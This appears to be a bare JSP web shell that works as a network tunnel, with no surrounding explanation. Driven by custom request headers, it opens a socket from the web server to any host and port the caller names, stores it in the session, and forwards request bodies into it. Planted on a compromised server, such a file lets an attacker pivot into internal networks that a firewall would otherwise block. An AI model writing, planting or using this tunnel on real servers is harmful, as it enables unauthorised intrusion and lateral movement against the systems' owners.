<%@ page import="java.nio.ByteBuffer,java.nio.channels.SocketChannel,java.net.InetSocketAddress" %>
<%
  String op = request.getHeader("X-Op");
  if ("open".equals(op)) {
    SocketChannel ch = SocketChannel.open();
    ch.connect(new InetSocketAddress(request.getHeader("X-Host"), Integer.parseInt(request.getHeader("X-Port"))));
    ch.configureBlocking(false);
    session.setAttribute("ch", ch);
  } else if ("send".equals(op)) {
    SocketChannel ch = (SocketChannel) session.getAttribute("ch");
    byte[] buf = new byte[8192];
    int n = request.getInputStream().read(buf);
    if (n > 0) ch.write(ByteBuffer.wrap(buf, 0, n));
  }
%>
